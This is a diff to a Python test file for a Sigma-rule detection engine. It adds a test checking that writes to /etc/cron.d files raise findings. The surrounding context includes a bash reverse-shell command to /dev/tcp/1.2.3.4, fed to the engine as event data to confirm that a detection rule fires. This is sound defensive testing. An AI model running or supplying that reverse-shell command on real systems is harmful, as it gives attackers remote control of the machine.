@@ -12,7 +12,7 @@ from tests.engines.conftest import FakeClock, FakeContext
 from tests.engines.sigma.build import exec_event, file_event, rule, write_rules
 
 from ringfence.engines.sigma import RulesError, SettingsError, SigmaEngine
-from ringfence.sdk import Severity
+from ringfence.sdk import FileActivityId, Severity
 
 REVSHELL = "5f0a1c1e-0000-4000-8000-00000000a001"
 CRON = "5f0a1c1e-0000-4000-8000-00000000a002"
@@ -457,3 +457,14 @@ def test_absurdly_nested_conditions_are_one_rules_error_or_load_never_the_whole_
     engine.on_event(exec_event("/x", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
     assert {f.fields["rule"] for f in ctx.findings} >= {REVSHELL}
     assert len(ctx.findings) == 2  # the parenthesised rule loaded and matched /x too
+
+
+def test_appending_to_an_existing_cron_file_is_a_file_event_and_a_new_file_is_one_finding(
+    start, tmp_path
+) -> None:
+    engine, ctx = start(write_rules(tmp_path / "c", **{"cron.yml": CRON_RULE}))
+    engine.on_event(file_event("/etc/cron.d/existing", FileActivityId.CLOSE_WRITE))  # only written to
+    assert len(ctx.findings) == 1
+    engine.on_event(file_event("/etc/cron.d/new"))  # created ...
+    engine.on_event(file_event("/etc/cron.d/new", FileActivityId.CLOSE_WRITE))  # ... and written: one finding
+    assert [f.fields["file_path"] for f in ctx.findings] == ["/etc/cron.d/existing", "/etc/cron.d/new"]
